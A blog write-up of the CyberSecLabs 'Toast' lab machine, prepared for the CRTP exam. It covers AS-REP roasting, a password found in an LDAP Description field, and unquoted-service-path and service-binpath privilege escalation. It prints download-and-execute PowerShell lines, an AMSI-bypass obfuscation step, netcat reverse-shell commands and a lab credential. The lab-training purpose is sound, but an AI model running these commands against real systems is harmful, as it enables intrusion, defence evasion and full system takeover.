top of page
  • Writer's picture@Firestone65

1# CRTP Series | CyberSecLabs : Toast Write-up

Updated: Nov 10, 2021

This is the 1st blog out of a series of blogs I will be publishing on vulnerable machines in preparation for the CRTP exam.

You can access my Gitbook repository here for all the commands.

Let's begin!


First we run an nmap scan to see which ports are open and the services running on them.

  • -Pn : Skiphost discovery [Don't ping]

  • -p- : Scan all 65535 ports

  • -oA : Save output to file

Let's run an aggressive nmap scan to enumerate the services on all open ports.

  • -A : Enable OS detection, version detection, script scanning, andtraceroute


  • Looking at ports 389(LDAP) and 88(Kerberos), our target is likely a Domain Controller.

  • Domain Name : Toast.csl | Hostname: TOAST-DC

  • The SMB service stands out from all the services, and that's where we'll start poking.


We have anonymous read access on 2 shares, but nothing useful in there.

Interestingly, we now have 2 usernames:

  • Karen

  • Potato

If we did not know this, we could enumerate valid users using from impacket with a username wordlist from Seclist.

Let's see if any of the users have Kerberos-Pre-authentication disabled. If yes, we could grab the user's crackable AS-REP and brute-force it offline.

Let's take a deeper look at how this attack works.



  • If a user's UserAccountControl settings have "Do not require Kerberos preauthentication" enabled i.e. Kerberos preauth isdisabled, it is possible to grab user's crackable AS-REP and brute-force it offline.

  • With sufficient rights (GenericWrite or GenericAll), Kerberos preauth can be forced disabled as well.


  1. [AS-REQ] Timestamp is encrypted with the NTLM hash of the user and sent to KDC. This is when Pre-Auth is enabled. KDC knows that the request came from the specific user. If disabled, this step can be spoofed.

  2. [AS-REP] KDC creates a TGT which is encrypted. It contains an additional information which is signed with the user's NTLM hash.

  3. Attacker grabs the AS-REP and cracks the user's NTLM hash offline.


Using from impacket we were able to identify that user 'Karen' has Kerberos Preauth disabled. The AS-REP is stored in a format readable by john. Crack the NTLM hash with rockyou.txt as the wordlist.

Great, we've owned user Karen!

Remember that LDAP(port 389) was open. Let's manually enumerate LDAP as user Karen.

First we need to identify the naming context. Let's use python3.Next, let's grab the "Description" for all objects. Why you ask? Administrators are known to save passwords in the "Description" of the object, especially when there are roles requiring double-shifts where different users share passwords. Obviously unaware that they could be accessed by bad-actors

Looks like we've got user Potato's credentials! Let's revisit enumeration of shares with Potato's privileges.


  • We have READ/WRITE access on Potato share.

  • ClearLogs.ps1 appears to be running as a cronjob every minute.

  • We could possible replace it's contents to grab a reverse shell onto the target.

Initial Foothold


  • The traditional method of gaining a foothold using Invoke-PowershellTcp.ps1 or delivering the payload using SMB do not work. Although we can observe the target's requests to our web-server, we do not get a shell as Defender and AMSI seem to be causing problems.

  • To overcome this, let's use this AMSI bypass. Shout-out to PinkDraconian for this.

  • Additionally we'll need to obfuscate the bypass code using ISESteroids.

Obfuscation of AMSI Bypass

1. To install ISESteroids, run this in Powershell:Install-Module -Name "ISESteroids" -Scope CurrentUser -Repository PSGallery -Force

2. Start a Powershell ISE Editor and run:


3. Copy the AMSI Bypass code to the editor and obfuscate the code.

4. Save the output as amsibypass.ps1

Download Invoke-PowerShellTcp.ps1 and append to it's end:

Invoke-PowerShellTcp -Reverse -IPAddress <IP> -Port <Port No>Copy both scripts to a folder and host it on a web server.

python -m SimpleHTTPServer

Let's replace ClearLogs.ps1 with the below content:

IEX(iwr http://<IP>/amsibypass.ps1 -UseBasicParsing);
IEX(iwr http://<IP>/Invoke-PowerShellTcp.ps1 -UseBasicParsing);

Copy it to the Potato Share by logging intoSMB:

smbclient \\\\\\Potato -U "Potato"%"W2CUvphqXB"
put ClearLogs.ps1

The idea is to get the cronjob to download both scripts and execute in memory. Soon enough, we get a callback, followed by a reverse shell!

To get a more stable shell, I downloaded netcat onto the target to create a new shell.

We've got our first flag!Lateral Movement

To automate the Local Windows Privilege Escalation checklist, download & execute winPEAS on the target. Right away we observe a red flag. There exists a misconfigured service, 'HellEscape', with an UnquotedService Path. Checking if we have permissions to restart 'HellEscape' using Service Controller Utility(sc), and sure enough we do!

Let's take a deeper look at how this local privilege escalation attack works:


Unquoted Service Path Abuse

Services in windows have a binpath(Binary Path) which contains the command the service runs when it starts. If we use the sc utility to display the config of a service, among other information, we have the BINARY_PATH_NAME.

Weird stuff can happen if we do not use quotes in the BINARY_PATH_NAME.

Executables can take arguments, generally separated by spaces or executables can be references by using their absolute paths. Paths can also have spaces in them. Let's understand how windows interprets unquoted servicepaths:


  • Services that have a space in it's path with no quote.

  • Write permissions in the required folder.

Target a service which:

  • We have permissions to restart.

  • Runs with elevated privileges.In this case, when 'HellEscape' is started, the system tries to interpret the possibilities in the following order:

  1. c:\Program.exe

  2. c:\Program Files\Purgatory\Up.exe

  3. c:\Program Files\Purgatory\Up For.exe and so on..

If an attacker is able to place a malicious executable in one of these unexpected paths, he can elevate privileges to the user running the service.


Now that we've got that covered, lets generate a reverse shell payload, rename it to 'Up.exe' and place in the write-able directory: c:\Program Files\Purgatory\Up.exe

Like before, we will need to bypass AMSI using amsibypass.ps1 before running the malicious executable. To make things simple, I've compiled Clearlogs.ps1 into anexe using PS2-EXE.

IEX(iwr http://<IP>/amsibypass.ps1 -UseBasicParsing);
IEX(iwr http://<IP>/Invoke-PowerShellTcp.ps1 -UseBasicParsing);

Remember to make necessary port no: changes within Invoke-PowerShellTcp.ps1


  • 'HellEscape' runs with privileges of 'Serviceuser'.

  • We have write-permissions in the required directory as well as restart permissions to exploit the Unquoted Service Path misconfiguration.

  • Compile Clearlogs.ps1 into script.exe

  • Transfer it over to the write-able directory as :

c:\Program Files\Purgatory\Up.exe

  • Set up a listener using netcat.

  • Start 'HellEscape' using sc.

As you can see above, I've used netcat again to get a more stable shell. We now have privileges of Serviceuser!

Privilege Escalation

Once again, I've used winPEAS to see what's in store for us as 'Serviceuser'.

We can see that service 'UsoSvc' is affected by a Security misconfiguration vulnerability. We have Full Access on it's binary path and it runs as LocalSystem(Admin privileges). What does this mean? Well, we can re-configure the BIN_PATH_NAME to run any command or any binary of our choosing when 'UsoSvc' is started. Ideal for elevating privileges. For example:

  • Add our user to the Administrator's group :net localgroup administrators toast\Serviceuser /add
  • Get a reverse shell:

c:\<Directory>\nc.exe <IP> <port no:> -e c:\Windows\system32\cmd.exe

Let's use the reverse shell method to elevate privileges to SYSTEM. We can use sc to modify the binpath and restart the service.

The System Flag is ours.

To Summarize:

  • Valid usernames were enumerated.

  • User Karen had Kerberos-Pre-authentication disabled and a weak password configured. Thisenabled us to grab the AS-REP and crack the hash offline.

  • User Potato's password was exposed in the object 'Description'

  • The service 'HellEscape' was misconfigured with an Unquoted Service Path, which aided us to laterally obtain Serviceuser's privileges.

  •The service 'UsoSvc' had misconfigured permissionswhich helped us elevate to LocalSystem.1,894 views0 comments

Recent Posts

See All


Les commentaires ontété désactivés.
Post: Blog2_Post
bottom of page